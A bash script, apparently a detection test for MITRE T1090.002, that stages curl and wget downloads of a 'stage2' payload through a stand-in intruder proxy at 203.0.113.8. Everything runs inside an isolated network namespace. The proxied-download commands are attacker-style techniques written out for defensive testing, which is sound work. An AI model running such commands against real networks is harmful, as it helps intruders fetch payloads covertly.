#!/bin/bash
# Downloads routed through a proxy outside the network, without leaving the machine: in a
# private network namespace (its own loopback only) the documentation address 203.0.113.8
# stands for the intruder's proxy, and a small web server listening there plays it. curl
# goes through it with -x and with --socks5-hostname (that one times out after 3 s: the
# stand-in speaks HTTP only), and wget with -e use_proxy / -e http_proxy.
# technique: T1090.002
# expect: external-proxy-download
set -eu
export LC_ALL=C
unshare --net bash -eu <<'SH'
ip link set lo up
ip addr add 203.0.113.8/32 dev lo
python3 -m http.server 3128 --bind 203.0.113.8 --directory "$TPY_WORK" </dev/null >/dev/null 2>&1 &
proxy=$!
for _ in $(seq 50); do
    { exec 3<>/dev/tcp/203.0.113.8/3128; } 2>/dev/null && { exec 3>&-; break; }
    sleep 0.1
done
curl -s -m 5 -o /dev/null -x http://203.0.113.8:3128 http://127.0.0.1:9/stage2 || true
curl -s -m 3 -o /dev/null --socks5-hostname 203.0.113.8:3128 http://127.0.0.1:9/stage2 || true
wget -q -T 5 -t 1 -O /dev/null -e use_proxy=yes -e http_proxy=http://203.0.113.8:3128 \
    http://127.0.0.1:9/stage2 || true
kill "$proxy"
wait "$proxy" 2>/dev/null || true
SH
